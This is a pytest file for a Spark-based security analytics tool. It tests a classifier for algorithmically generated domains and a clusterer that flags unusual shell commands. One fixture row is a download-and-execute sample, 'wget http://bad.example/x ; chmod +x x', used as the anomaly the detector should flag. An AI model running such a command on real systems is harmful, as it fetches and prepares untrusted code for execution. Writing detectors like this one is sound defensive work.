from __future__ import annotations

from collections import Counter

import pytest
from pyspark.sql import functions as F

from conftest import rows_of
from vigil.operators import ngrams
from vigil.plans import commands, dga


@pytest.fixture(scope="module")
def material(spark, tables):
    names = tables["v_domains"]
    lists = {c: (names.filter(F.col("category") == c), "domain") for c in ("dga", "legit")}
    vocabularies = (
        ngrams.ngram_vocab(names.filter("category = 'legit'"), "domain", dga.MIN_DF_LEGIT),
        ngrams.ngram_vocab(tables["v_words"], "word", dga.MIN_DF_WORDS),
    )
    rows = dga.features(dga.corpus(lists), *vocabularies).persist()
    return rows, vocabularies


@pytest.mark.parametrize(
    "kind, grid, metric",
    [
        ("mlp", {"layers": [[6, 10, 2]], "maxIter": [50]}, "rmse"),
        ("logistic", {"regParam": [0.05], "elasticNetParam": [0.0]}, "areaUnderROC"),
        ("forest", {"numTrees": [5], "maxDepth": [5]}, "accuracy"),
    ],
)
def test_generated_domains_are_told_apart(spark, material, tables, kind, grid, metric):
    rows, vocabularies = material
    train, held_out = dga.split(rows)
    assert train.count() + held_out.count() == rows.count()
    assert train.join(held_out, "domain").count() == 0
    model = dga.fit(train, kind, grid, folds=2, metric=metric)
    counts = dga.evaluate(model, held_out).collect()
    right = sum(r["hits"] for r in counts if r["category"] == r["predicted"])
    assert right / sum(r["hits"] for r in counts) > 0.9
    hosts = dga.features(dga.host_candidates(tables["v_proxy"]), *vocabularies)
    flagged = dga.flag_hosts(model, hosts)
    assert flagged.count() > 0 and flagged.filter("domain not like '%.%'").count() == 0
    clients = dga.clients_of(flagged, tables["v_proxy"])
    assert clients.select("host").distinct().count() == flagged.count()


def test_few_names_of_a_category_are_told_apart(spark):
    # One name in 100 is legitimate, as with many generated ones; told apart by their entropy.
    rows = spark.range(4_000).selectExpr(
        "concat('n', id) as domain", "if(id % 100 = 0, 'legit', 'dga') as category", "24D as length",
        "if(id % 100 = 0, 3.2D, 4D) + (conv(substr(md5(string(id)), 1, 4), 16, 10) / 65536 - 0.5) * 0.6 as entropy",
        "0D as high_entropy", "0D as high_length", "40D as legit_grams", "1D as word_grams",
    )
    train, held_out = dga.split(rows)
    found = dga.evaluate(dga.fit(train, "logistic", {"regParam": [0.05]}, folds=2), held_out).collect()
    for category in ("dga", "legit"):
        hits = {r["predicted"]: r["hits"] for r in found if r["category"] == category}
        assert hits.get(category, 0) >= 0.9 * sum(hits.values())


def test_split_does_not_depend_on_row_order(material):
    rows, _ = material
    a = {r["domain"] for r in dga.split(rows)[0].collect()}
    b = {r["domain"] for r in dga.split(rows.repartition(3).orderBy("entropy"))[0].collect()}
    assert a == b


def test_candidates(spark):
    hosts = ["www.example.com", "short", "a.b", "mail.example.com", "10.20.30.40", "x10.20.30.40.example", "1a2b3c4d.example.net", None, "nodotsinhere"]
    px = spark.createDataFrame([(h,) for h in hosts] * 2, "host string")
    assert rows_of(dga.host_candidates(px), "domain") == [
        ("1a2b3c4d.example.net",), ("mail.example.com",), ("x10.20.30.40.example",)
    ]


@pytest.fixture(scope="module")
def shell_rows(spark):
    usual = [(f"ls -l /tmp/{i % 3}", "u1", "2024-01-01") for i in range(40)]
    usual += [("cat /etc/hosts", "u2", "2024-01-02")] * 40
    odd = [("wget http://bad.example/x ; chmod +x x", "u3", "2024-01-03")]
    return spark.createDataFrame(usual + odd, "command string, username string, date string")


def test_clusters_saved_and_loaded(spark, shell_rows, tmp_path):
    model, clustered = commands.cluster(shell_rows, k=4, vector_size=10)
    commands.save(model, clustered, str(tmp_path / "m"))
    again, rows = commands.load(spark, str(tmp_path / "m"))
    assert rows_of(rows, "command", "prediction") == rows_of(clustered, "command", "prediction")
    assert rows_of(commands.score(again, shell_rows), "command", "prediction") == rows_of(
        clustered, "command", "prediction"
    )
    held = [(r["command"], r["date"], r["prediction"]) for r in clustered.collect()]
    sizes = Counter(cluster for _, _, cluster in held)
    assert len(sizes) > 1
    limit = max(sizes.values())
    lines = [r["line"] for r in commands.outlier_lines(commands.outliers(clustered, limit)).collect()]
    assert sorted(lines) == sorted(
        {f"{command} -> Seen on: {date}" for command, date, cluster in held if sizes[cluster] < limit}
    )
    biggest = min(c for c, n in sizes.items() if n == limit)
    assert rows_of(commands.largest(clustered, 1)) == sorted(
        {(command,) for command, _, cluster in held if cluster == biggest}
    )
    fresh = spark.createDataFrame([("gcc hack.c -o hack",), ("cat /etc/hosts",)], "command string")
    assert commands.score(again, fresh).filter("prediction is not null").count() == 2


def test_words_are_hashed(spark, shell_rows):
    model = commands.train(shell_rows, k=3, vector_size=5, buckets=8)
    words = model.stages[1].getVectors()
    assert words.count() <= 8 and words.filter("word not like '#%'").count() == 0
    # No row and no word is lost.
    vectors = commands.vectors(model, shell_rows)
    assert vectors.count() == shell_rows.count()
    assert vectors.filter(F.size("tokens") != F.size(F.split("command", " "))).count() == 0


def test_every_layout_gives_a_vector_to_each_word(shell_rows):
    first = commands.train(shell_rows, k=3, vector_size=5)
    other = commands.train(shell_rows.repartition(7).orderBy(F.desc("command")).coalesce(3), k=3, vector_size=5)
    words = [{r["word"]: len(r["vector"]) for r in m.stages[1].getVectors().collect()} for m in (first, other)]
    assert words[0] == words[1] and set(words[0].values()) == {5}
    # Equal commands are in one cluster, whatever the vectors are.
    for model in (first, other):
        scored = commands.score(model, shell_rows)
        assert scored.groupBy("command").agg(F.count_distinct("prediction").alias("n")).where("n > 1").count() == 0


def test_new_commands_in_unknown_clusters_stay(spark, shell_rows):
    model, known = commands.cluster(shell_rows, k=4, vector_size=10)
    fresh = spark.createDataFrame([("gcc hack.c -o hack",), ("cat /etc/hosts",), ("x y",)], "command string")
    found = commands.score_new(model, known.filter("command = 'cat /etc/hosts'"), fresh).collect()
    assert len(found) == 3 and {r["cluster_size"] for r in found if r["command"] == "cat /etc/hosts"} == {40}


def test_whole_lines_as_words(spark):
    rows = spark.createDataFrame([("a b\nc d\na b",), ("c d",), ("x",)] * 10, "command string")
    _, clustered = commands.cluster_lines(rows, k=2)
    held = commands.members(clustered)
    assert {(r["command"], r["hits"]) for r in held.collect()} == {("a b", 20), ("c d", 20), ("x", 10)}


def test_outliers_are_sought_among_all_clusters(spark):
    from bindings import queries

    rows = spark.range(240).selectExpr(
        "date'2024-01-01' as date", "concat('run', id % 120, ' --n ', id % 120) as command", "concat('u', id % 3) as username"
    )
    found = queries._clustered({"v_bash": rows})
    # Fewer different commands than clusters, but far more clusters than a model of 25 has.
    assert found.count() == 240 and 100 < found.select("prediction").distinct().count() <= 120
    lines = commands.outlier_lines(commands.outliers(found.drop("size")))
    assert lines.count() > 100
